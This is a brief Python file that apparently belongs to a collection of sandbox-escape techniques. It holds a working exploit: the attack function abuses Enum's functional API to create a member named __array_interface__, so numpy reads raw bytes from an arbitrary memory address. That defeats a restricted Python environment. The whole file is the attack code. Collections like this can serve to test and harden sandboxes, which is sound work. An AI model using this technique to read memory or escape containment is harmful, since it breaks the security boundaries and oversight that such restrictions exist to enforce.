"""Class: class machinery. Source: own find. Escape: the members of an enum's functional class have
special names."""

from enum import Enum

import numpy as np


class E(Enum):
    pass


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    return [np.array(each).tobytes() for each in E("C", {"A": 1, "__array_interface__": interface})]
